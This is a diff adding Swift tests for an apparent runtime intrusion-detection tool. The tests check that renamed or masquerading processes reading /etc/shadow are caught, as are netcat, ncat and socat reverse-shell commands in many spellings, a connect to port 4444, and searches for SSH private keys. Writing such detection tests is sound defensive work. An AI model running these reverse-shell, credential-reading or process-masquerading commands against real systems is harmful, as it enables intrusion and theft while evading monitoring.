@@ -1,0 +1,88 @@
+import Foundation
+import Testing
+
+/// A subject that knows the default rules tries the attacks they catch another way:
+/// under another name, with the option spelt otherwise, as an attempt that fails.
+/// Each variant must still be caught.
+extension RealKernelTests {
+    /// The rules that fired, one entry per alerting event line (an event may fire several).
+    func firedRuleNames(_ result: AgentResult) -> [String] {
+        result.jsonLines().compactMap { $0["rule"] as? String }
+    }
+
+    @Test func anotherNameForTheProgramIsNoExemption() throws {
+        let dir = try Scratch.directory("names")
+        defer { try? FileManager.default.removeItem(at: dir) }
+        let d = dir.path
+        let script = """
+            cp /bin/cat \(d)/sshd && \(d)/sshd /etc/shadow > /dev/null
+            cp /bin/cat \(d)/unix_chkpwd && \(d)/unix_chkpwd /etc/shadow > /dev/null
+            python3 -c 'import ctypes; ctypes.CDLL(None).prctl(15, b"sshd", 0, 0, 0); open("/etc/shadow").read()'
+            sh -c 'printf sudo > /proc/self/comm; cat /etc/shadow > /dev/null'
+            exit 0
+            """
+        try Scratch.write("\(d)/script.sh", Data(script.utf8))
+        let result = try traceJSON(["sh", "\(d)/script.sh"])
+        #expect(result.status == 0, "\(result.stderr)")
+        let lines = result.jsonLines()
+        let readers = lines.filter { "\($0)".contains("Read sensitive file by untrusted program") }
+            .compactMap { ($0["output_fields"] as? [String: Any]).flatMap { field($0, "proc.exepath") } }
+        #expect(readers.contains("\(d)/sshd"), "a copy of cat named sshd: \(readers)")
+        #expect(readers.contains("\(d)/unix_chkpwd"))
+        #expect(readers.contains { $0.contains("python") }, "python renamed to sshd by prctl: \(readers)")
+        #expect(readers.contains { $0.hasSuffix("/cat") }, "cat under a shell renamed sudo")
+        let fired = firedRuleNames(result)
+        #expect(fired.contains("Process took the name of a trusted program"))
+        #expect(fired.contains("Process renamed itself"), "the comm file written: \(fired)")
+    }
+
+    @Test func theRemoteShellOptionHoweverWritten() throws {
+        let dir = try Scratch.directory("netcat")
+        defer { try? FileManager.default.removeItem(at: dir) }
+        let d = dir.path
+        // A stand-in named like netcat: what counts is how it was asked to run.
+        let variants = [
+            "nc -e /bin/sh 192.0.2.1 4444", "nc -e/bin/sh 192.0.2.1 4444", "nc -lvpe /bin/sh 4444",
+            "nc 192.0.2.1 4444 -e /bin/sh", "nc -c sh 192.0.2.1 4444", "ncat --exec /bin/sh 192.0.2.1 4444",
+            "ncat --sh-exec=sh 192.0.2.1 4444", "ncat -nvc id 192.0.2.1 4444", "socat tcp:192.0.2.1:4444 EXEC:/bin/sh",
+            "socat tcp:192.0.2.1:4444 system:sh",
+        ]
+        let benign = ["nc -zv 192.0.2.1 80", "ncat --listen --keep-open 8080", "nc -w 3 -q 1 192.0.2.1 80"]
+        var script = "mkdir -p \(d)/bin\nfor n in nc ncat socat; do cp /bin/true \(d)/bin/$n; done\n"
+        for command in variants + benign { script += "\(d)/bin/\(command)\n" }
+        script += "exit 0\n"
+        try Scratch.write("\(d)/script.sh", Data(script.utf8))
+        let result = try traceJSON(["sh", "\(d)/script.sh"])
+        #expect(result.status == 0, "\(result.stderr)")
+        let caught = result.jsonLines().filter { "\($0)".contains("Netcat or socat with command execution") }
+            .compactMap { ($0["output_fields"] as? [String: Any]).flatMap { field($0, "proc.cmdline") } }
+        for command in variants {
+            let name = String(command.prefix { $0 != " " })
+            let args = command.dropFirst(name.count + 1)
+            #expect(caught.contains { $0.hasSuffix(String(args)) }, "missed: \(command)")
+        }
+        #expect(caught.count == variants.count, "benign forms raised nothing: \(caught)")
+    }
+
+    @Test func aRefusedConnectionIsStillTheAttempt() throws {
+        // Nothing listens on the mining port: the connect is refused, and still reported.
+        let result = try traceJSON([
+            "python3", "-c",
+            "import socket\ntry:\n    socket.socket().connect(('127.0.0.1', 4444))\nexcept OSError:\n    pass",
+        ])
+        #expect(result.status == 0, "\(result.stderr)")
+        let attempt = try #require(
+            result.jsonLines().first { "\($0)".contains("Connection to a mining or reverse-shell port") })
+        let fields = try #require(attempt["output_fields"] as? [String: Any])
+        #expect(field(fields, "evt.res") == "ECONNREFUSED")
+    }
+
+    @Test func searchingForKeysIsFlagged() throws {
+        let result = try traceJSON([
+            "sh", "-c",
+            "find /nonexistent -name id_rsa 2>/dev/null; grep -rl 'BEGIN OPENSSH' /nonexistent 2>/dev/null; grep -r hello /nonexistent 2>/dev/null; exit 0",
+        ])
+        let fired = firedRuleNames(result)
+        #expect(fired.filter { $0 == "Search for private keys or credentials" }.count == 2, "\(fired)")
+    }
+}
